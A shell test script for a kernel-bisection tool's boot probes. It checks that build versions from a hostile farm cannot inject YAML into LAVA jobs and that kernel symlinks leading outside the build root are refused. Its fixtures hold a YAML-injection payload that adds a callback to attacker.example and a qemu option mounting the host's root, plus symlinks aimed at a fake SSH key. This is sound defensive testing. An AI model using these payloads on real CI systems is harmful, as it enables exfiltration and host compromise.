#!/bin/bash
# The shipped boot probes take a build's id and version from the farm
# and its kernel from the build's root, and both are hostile. lava-boot
# puts the id and version into a job that runs with the user's token:
# they must stay values, never become YAML of their own (a `notify`
# callback sending the results away, qemu options on the lab's worker).
# A package may hold boot/vmlinuz-X as a symlink to any file of this
# machine: lava-boot would publish it on the web, qemu-boot would hand
# it to the build's kernel. No lab and no boot are needed here:
# lava-boot's --print-job shows the job it would submit.
set -u
. "${TESTS_SRCDIR:-$(cd "$(dirname "$0")" && pwd)}/lib.sh"

/usr/bin/python3 -c 'import yaml' 2>/dev/null ||
	skip_all "python3-yaml is needed to read the jobs (apt-get install python3-yaml)"
need_cmd realpath

P="$TESTS_SRCDIR/../data/probes/lava-boot"
Q="$TESTS_SRCDIR/../data/probes/qemu-boot"
TPL="$TESTS_SRCDIR/../data/lava/qemu-x86_64-tmpfs.yaml"
LAVA=(--lava http://127.0.0.1:1 --device-type qemu --publish-dir "$T/pub" --publish-url http://127.0.0.1:1/pub --print-job)

# A secret of the user's, as ~/.ssh/id_rsa is.
mkdir -p "$T/secret" "$T/pub"
echo "TOP-SECRET-KEY-MATERIAL" > "$T/secret/id_rsa"
chmod 600 "$T/secret/id_rsa"
SECRET_SUM=$(sha256sum < "$T/secret/id_rsa" | cut -d' ' -f1)

# keys FILE: the job's top-level keys, and its metadata as JSON
keys() {
	/usr/bin/python3 -c 'import json, sys, yaml
d = yaml.safe_load(open(sys.argv[1]))
print(" ".join(d), json.dumps(d.get("metadata"), sort_keys=True))' "$1" 2>&1
}
lb() {	# VERSION TEMPLATE: lava-boot's job for a build of that version
	ARTBISECT_BUILD=k1 ARTBISECT_VERSION=$1 ARTBISECT_STEP=1 ARTBISECT_ROOT="$T/root-ok" \
		"$P" --template "$2" "${LAVA[@]}"
}
mkdir -p "$T/root-ok/boot"
head -c 4096 /dev/urandom > "$T/root-ok/boot/vmlinuz-6.6.1"
head -c 1024 /dev/urandom > "$T/root-ok/boot/initrd.img-6.6.1"
# The keys of a job for a build with a plain version.
lb 6.6.1 "$TPL" > "$T/plain-job.yaml"
TPL_KEYS=$(keys "$T/plain-job.yaml")
TPL_KEYS=${TPL_KEYS%% \{*}
like "$TPL_KEYS" '^device_type .*metadata actions$' "a job for a plain build, as the template makes it"

# --- 1. A farm over HTTP whose versions and ids write YAML -------------
"$PYTHON3" - "$T/farm" <<'PY'
import hashlib, io, json, os, sys, tarfile
out = sys.argv[1]
os.makedirs(out, exist_ok=True)
inject = ("x'\ncontext:\n  extra_options:\n  - '-virtfs local,path=/,mount_tag=host'\n"
          "notify:\n  callbacks:\n  - url: 'https://attacker.example/cb'\njunk:\n  x: '")
builds = []
for i, (bid, ver) in enumerate([("b0", "6.6.0"), ("b1'x", inject), ("b2", "6.6.2 \"q\" \\ '"),
                                ("b3", "6.6.3")]):
    name = "b%d.tar" % i
    with tarfile.open(os.path.join(out, name), "w") as t:
        for path, data in (("boot/vmlinuz-6.6.%d" % i, os.urandom(4096)),
                           ("boot/initrd.img-6.6.%d" % i, os.urandom(1024))):
            ti = tarfile.TarInfo(path)
            ti.size, ti.mode, ti.mtime = len(data), 0o644, 1704067200
            t.addfile(ti, io.BytesIO(data))
    data = open(os.path.join(out, name), "rb").read()
    builds.append({"id": bid, "version": ver,
                   "artifacts": [{"url": name, "type": "tar", "sha256": hashlib.sha256(data).hexdigest()}]})
json.dump({"format": "artbisect-index", "version": 1, "builds": builds}, open(os.path.join(out, "index.json"), "w"))
json.dump({b["id"]: b["version"] for b in builds}, open(os.path.join(out, "versions.json"), "w"))
PY
start_server "$T/farm"
run "$ARTBISECT" --index "$BASE/index.json" --cache-dir "$T/cache" --work-dir "$T/work" --good b0 --bad b3 \
	--probe "$P $(printf '%q ' --template "$TPL" "${LAVA[@]}")> \"$T/job-\$ARTBISECT_STEP.yaml\" && [ \"\$ARTBISECT_BUILD\" != b2 ]"
# (good up to b1, bad from b2: both builds between the ends are tried)
is "$RC:$(printf '%s\n' "$OUT" | grep -m1 'first bad build')" "0:The first bad build is b2." \
	"a bisection with lava-boot --print-job on a farm whose versions write YAML: exit 0"
jobs=$(ls "$T"/job-*.yaml 2>/dev/null | wc -l)
is "$jobs" 2 "lava-boot made a job for each of the two builds between the ends"
for f in "$T"/job-*.yaml; do
	k=$(keys "$f")
	is "${k%% \{*}" "$TPL_KEYS" "$(basename "$f"): the job has the template's top-level keys, no more (no notify, no other context)"
	b=$(printf '%s' "${k#* \{}" | "$PYTHON3" -c 'import json, sys; print(json.loads("{" + sys.stdin.read())["artbisect.build"])')
	want=$("$PYTHON3" -c 'import json, sys; v = json.load(open(sys.argv[1]))[sys.argv[2]]; print(v.replace("\n", "?"))' \
		"$T/farm/versions.json" "$b" 2>/dev/null)
	is "$(printf '%s' "${k#* \{}" | "$PYTHON3" -c 'import json, sys; print(json.loads("{" + sys.stdin.read())["artbisect.version"])')" \
		"$want" "$(basename "$f"): build $b's version is one value, as the farm gave it (line breaks as '?')"
done
grep -q '^notify:' "$T"/job-*.yaml
none_found $? "no job has a notify: line (the version's 'notify:' stays inside its value)"

# --- 2. Placeholders in double quotes and in none ----------------------
sed "s/artbisect.version: '{{ version }}'/artbisect.version: \"{{ version }}\"/" "$TPL" > "$T/dq.yaml"
sed "s/artbisect.version: '{{ version }}'/artbisect.version: {{ version }}/" "$TPL" > "$T/plain.yaml"
hostile=$(printf '1.0"\nnotify: {x: 1}\n\t\\ end')
run lb "$hostile" "$T/dq.yaml"
is "$RC" 0 "a placeholder in double quotes, a hostile version: a job"
printf '%s' "$OUT" > "$T/dq-job.yaml"
is "$(/usr/bin/python3 -c 'import sys, yaml; print(repr(yaml.safe_load(open(sys.argv[1]))["metadata"]["artbisect.version"]))' "$T/dq-job.yaml")" \
	"$(/usr/bin/python3 -c 'import sys; print(repr(sys.argv[1]))' "$hostile")" \
	"in double quotes the version is kept exactly, line breaks and all (escaped)"
run lb "$hostile" "$T/plain.yaml"
is "$RC" 255 "a placeholder in no quotes, a version that would change the YAML: refused (exit 255, the bisection stops)"
like "$ERR" "^lava-boot: k1: \{\{ version \}\} on line [0-9]+ of the template is not in quotes, and its value \"1\.0.*would change the job's YAML: put the placeholder in single quotes$" \
	"and lava-boot says which placeholder, on which line, and what to do"
unlike "$OUT" 'notify' "and prints no job"
run lb 6.6.1-300.fc40 "$T/plain.yaml"
is "$RC" 0 "in no quotes, a plain version: a job"
like "$OUT" '^  artbisect\.version: 6\.6\.1-300\.fc40$' "with the version as it is"

# --- 3. A kernel or initramfs that leads out of the root ---------------
mkroot() {	# NAME KERNEL-TARGET INITRD-TARGET ("" for a file of its own)
	local r="$T/$1"
	mkdir -p "$r/boot"
	if [ -n "$2" ]; then ln -s "$2" "$r/boot/vmlinuz-6.6.1"; else head -c 4096 /dev/urandom > "$r/boot/vmlinuz-6.6.1"; fi
	if [ -n "$3" ]; then ln -s "$3" "$r/boot/initrd.img-6.6.1"; else head -c 1024 /dev/urandom > "$r/boot/initrd.img-6.6.1"; fi
}
lbroot() {	# ROOT
	ARTBISECT_BUILD=k1 ARTBISECT_VERSION=6.6.1 ARTBISECT_STEP=1 ARTBISECT_ROOT="$T/$1" \
		"$P" --template "$TPL" "${LAVA[@]}"
}
mkroot abs-kernel "$T/secret/id_rsa" ""
mkroot rel-kernel "../../../secret/id_rsa" ""
mkroot abs-initrd "" "$T/secret/id_rsa"
mkroot in-root "../lib/modules/6.6.1/vmlinuz" ""
mkdir -p "$T/in-root/lib/modules/6.6.1"
head -c 4096 /dev/urandom > "$T/in-root/lib/modules/6.6.1/vmlinuz"
for r in abs-kernel rel-kernel; do
	run lbroot $r
	is "$RC" 125 "lava-boot, boot/vmlinuz-6.6.1 a symlink ($r) to a file outside the root: skip"
	like "$ERR" 'no kernel image in the build' "lava-boot, $r: it finds no kernel image of the build's own"
done
run lbroot abs-initrd
unlike "$OUT" "$SECRET_SUM" "lava-boot, the initramfs a symlink out of the root: the secret is not in the job"
is "$(grep -rl 'TOP-SECRET' "$T/pub" 2>/dev/null | wc -l)" 0 "nothing of the secret was ever published"
run lbroot in-root
is "$RC" 0 "lava-boot, boot/vmlinuz-6.6.1 a symlink inside the root (as packages have): a job"
like "$OUT" "sha256sum: '$(sha256sum < "$T/in-root/lib/modules/6.6.1/vmlinuz" | cut -d' ' -f1)'" \
	"with the sha256 of the file it leads to"

# qemu-boot looks for the kernel first: with one outside the root it
# skips before any qemu is started.
for r in abs-kernel rel-kernel; do
	run env ARTBISECT_BUILD=k1 ARTBISECT_ROOT="$T/$r" QEMU_BOOT_LOG_DIR="$T/consoles" timeout 60 "$Q" --timeout 5
	is "$RC:$(printf '%s' "$ERR" | head -n 1)" "125:qemu-boot: no kernel image in k1: skip" \
		"qemu-boot, boot/vmlinuz-6.6.1 a symlink ($r) to a file outside the root: no kernel image, skip"
done
run env ARTBISECT_BUILD=k1 ARTBISECT_ROOT="$T/in-root" QEMU_BOOT_LOG_DIR="$T/consoles" timeout 60 "$Q" --timeout 5
unlike "$ERR" 'no kernel image' "qemu-boot, a symlink inside the root: the kernel is found (exit $RC; the image is not a kernel)"

plan_done
